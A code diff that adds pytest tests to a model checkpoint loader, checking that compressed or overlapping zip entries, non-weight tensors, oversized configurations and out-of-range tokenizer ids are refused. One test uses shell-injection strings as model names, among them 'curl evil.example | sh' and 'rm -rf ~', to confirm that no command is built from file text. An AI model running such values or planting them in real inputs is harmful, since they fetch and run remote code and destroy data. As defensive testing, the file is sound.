@@ -1,7 +1,10 @@
 """Tests of .official, .backbones, .weights: small random checkpoints of the official layout."""
 
+import copy
+import json
 import re
 import shutil
+import time
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
@@ -265,7 +268,176 @@ def test_a_zip_file_of_something_else(official: Official):
         load_checkpoint(file, backbone=backbone)
 
 
+def pack_again(file: Path, compression: int) -> None:
+    with zipfile.ZipFile(file) as archive:
+        content = {entry.filename: archive.read(entry) for entry in archive.infolist()}
+    with zipfile.ZipFile(file, "w", compression) as archive:
+        for name, data in content.items():
+            archive.writestr(name, data)
+
+
+@pytest.mark.parametrize("compression", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
+def test_a_compressed_checkpoint_is_refused(official: Official, compression: int):
+    """Mapped, its bytes would be taken for numbers; unpacked, it might fill the memory."""
+    file, backbone = official
+    pack_again(file, compression)
+    with pytest.raises(CheckpointError, match="is compressed; fetch the original, or unpack it"):
+        load_checkpoint(file, backbone=backbone)
+
+
+def test_a_checkpoint_zipped_again_without_compression_is_the_same(official: Official):
+    file, backbone = official
+    again = Path(shutil.copy(file, file.with_name("again.ckpt")))
+    pack_again(again, zipfile.ZIP_STORED)
+    before, after = (
+        load_checkpoint(each, backbone=backbone).aligner.state_dict() for each in (file, again)
+    )
+    assert all(torch.equal(before[name], after[name]) for name in before)
+
+
+def test_entries_that_share_their_bytes_are_refused(official: Official):
+    """A directory that names one entry a hundred times: stored, and larger than its file."""
+    file, backbone = official
+    with zipfile.ZipFile(file, "a") as archive:
+        largest = max(archive.infolist(), key=lambda entry: entry.file_size)
+        for number in range(100):
+            entry = copy.copy(largest)
+            entry.filename = f"archive/data/again{number}"
+            archive.filelist.append(entry)
+        archive._didModify = True
+    with pytest.raises(CheckpointError, match="its entries overlap"):
+        load_checkpoint(file, backbone=backbone)
+
+
+NO_WEIGHTS: dict[str, Callable[[Tensor], Tensor]] = {
+    "whole numbers": lambda tensor: tensor.long(),
+    "bits": lambda tensor: tensor > 0,
+    "complex": lambda tensor: tensor.to(torch.complex64),
+    "sparse": lambda tensor: tensor.to_sparse(),
+    "without content": lambda tensor: tensor.to("meta"),
+    "repeated": lambda tensor: torch.zeros(1).expand(tensor.shape),
+    "overlapping": lambda tensor: torch.zeros(200).as_strided(tensor.shape, (1, 1)),
+}
+
+
+@pytest.mark.parametrize("kind", NO_WEIGHTS)
+def test_tensors_that_are_no_weights_are_refused_by_name(official: Official, kind: str):
+    file, backbone = official
+    content = official_content(FAMILIES["roberta"])
+    content["state_dict"][KEY] = NO_WEIGHTS[kind](content["state_dict"][KEY])
+    torch.save(content, file)
+    with pytest.raises(CheckpointError, match=r"layer\.1\.output\.dense\.weight' (is no|has 384)"):
+        load_checkpoint(file, backbone=backbone)
+
+
+@pytest.mark.parametrize("dtype", [torch.float16, torch.bfloat16, torch.float64])
+def test_weights_of_any_real_type_are_taken(official: Official, dtype: torch.dtype):
+    file, backbone = official
+    content = official_content(FAMILIES["roberta"])
+    exact = content["state_dict"]["tri_layer.weight"]
+    content["state_dict"]["tri_layer.weight"] = exact.to(dtype)
+    torch.save(content, file)
+    found = load_checkpoint(file, backbone=backbone).aligner.tri_layer.weight
+    assert found.dtype == torch.float32
+    assert torch.equal(found, exact.to(dtype).float())
+
+
+LARGE = {"num_hidden_layers": 20_000, "vocab_size": 10**9, "max_position_embeddings": 10**9}
+LARGE |= {"hidden_size": 10**6, "intermediate_size": 10**9, "type_vocab_size": 10**9}
+
+
+@pytest.mark.parametrize("key", LARGE)
+def test_a_configuration_that_asks_for_more_than_the_weights_is_refused_at_once(
+    tiny_aligner: Path, tmp_path: Path, key: str
+):
+    folder = changed(tiny_aligner, tmp_path, backbone={key: LARGE[key]})
+    started = time.perf_counter()
+    with pytest.raises(CheckpointError, match=rf"{key} \d+ \(the configuration's: {LARGE[key]}\)"):
+        load_checkpoint(folder)
+    assert time.perf_counter() - started < 20  # 20,000 layers took minutes
+
+
+def test_more_copied_ngrams_than_embeddings(tiny_aligner: Path, tmp_path: Path):
+    folder = changed(tiny_aligner, tmp_path, copied_ngrams=10**9)
+    with pytest.raises(CheckpointError, match="no embeddings for the configuration's copied_ngr"):
+        load_checkpoint(folder)
+
+
+@pytest.mark.parametrize(
+    ("values", "message"),
+    [
+        ({"num_hidden_layers": 20_000}, "asks for 20000 layers"),  # they share one layer's weights
+        ({"inner_group_num": 10**9}, "asks for too much: inner_group_num 1000000000"),
+        ({"num_hidden_groups": 10**9}, "asks for too much: num_hidden_groups"),
+    ],
+)
+def test_sizes_that_weights_do_not_tell_have_bounds(
+    tmp_path: Path, byte_tokenizer: Path, values: dict[str, int], message: str
+):
+    file, backbone = write_official(tmp_path, byte_tokenizer, FAMILIES["albert"])
+    AlbertConfig(**{**SIZES, "embedding_size": 8, **values}).save_pretrained(backbone)
+    with pytest.raises(CheckpointError, match=message):
+        load_checkpoint(file, backbone=backbone)
+
+
+def changed(aligner: Path, folder: Path, **values: Any) -> Path:
+    """A copy of a saved aligner with other values in its configuration."""
+    copied = shutil.copytree(aligner, folder / "copy")
+    config = json.loads((copied / "config.json").read_text())
+    config |= {key: v for key, v in values.items() if key != "backbone"}
+    config["backbone"] |= values.get("backbone", {})
+    (copied / "config.json").write_text(json.dumps(config))
+    return copied
+
+
+def test_a_tokenizer_with_ids_beyond_the_embeddings_is_refused(tiny_aligner: Path, tmp_path: Path):
+    folder = changed(tiny_aligner, tmp_path)
+    tokenizer = AutoTokenizer.from_pretrained(folder)
+    tokenizer.add_tokens([f"word{number}" for number in range(300)])
+    tokenizer.save_pretrained(folder)
+    with pytest.raises(CheckpointError, match=r"ids up to \d+ or more, but the encoder has embedd"):
+        load_checkpoint(folder)
+
+
+def test_a_template_with_ids_beyond_the_embeddings_is_refused(tiny_aligner: Path, tmp_path: Path):
+    folder = changed(tiny_aligner, tmp_path)
+    content = json.loads((folder / "tokenizer.json").read_text())
+    content["post_processor"] = {
+        "type": "TemplateProcessing",
+        "single": [{"Sequence": {"id": "A", "type_id": 0}}],
+        "pair": [
+            {"Sequence": {"id": "A", "type_id": 0}},
+            {"SpecialToken": {"id": "[SEP]", "type_id": 0}},
+            {"Sequence": {"id": "B", "type_id": 1}},
+        ],
+        "special_tokens": {"[SEP]": {"id": "[SEP]", "ids": [9000], "tokens": ["[SEP]"]}},
+    }
+    (folder / "tokenizer.json").write_text(json.dumps(content))
+    settings = json.loads((folder / "tokenizer_config.json").read_text())
+    settings["tokenizer_class"] = "PreTrainedTokenizerFast"  # which takes the file at its word
+    (folder / "tokenizer_config.json").write_text(json.dumps(settings))
+    with pytest.raises(CheckpointError, match="ids up to 9000 or more, but the encoder has embedd"):
+        load_checkpoint(folder)
+
+
 # Backbones.
+
+
+@pytest.mark.usefixtures("hub_cache")
+@pytest.mark.parametrize(
+    "name",
+    ["x; curl evil.example | sh #", "$(id)", "a`id`", "-rf", "a\nrm -rf ~", "\x1b[2J", "a b"],
+)
+def test_no_command_is_made_of_text_in_a_file(official: Official, name: str):
+    content = official_content(FAMILIES["roberta"])
+    content["hyper_parameters"]["model"] = name
+    torch.save(content, official[0])
+    with pytest.raises(MissingResourceError) as caught:
+        load_checkpoint(official[0])
+    message = str(caught.value)
+    assert "hf download" not in message
+    assert repr(name) in message
+    assert message.isprintable()
 
 
 @pytest.mark.parametrize(
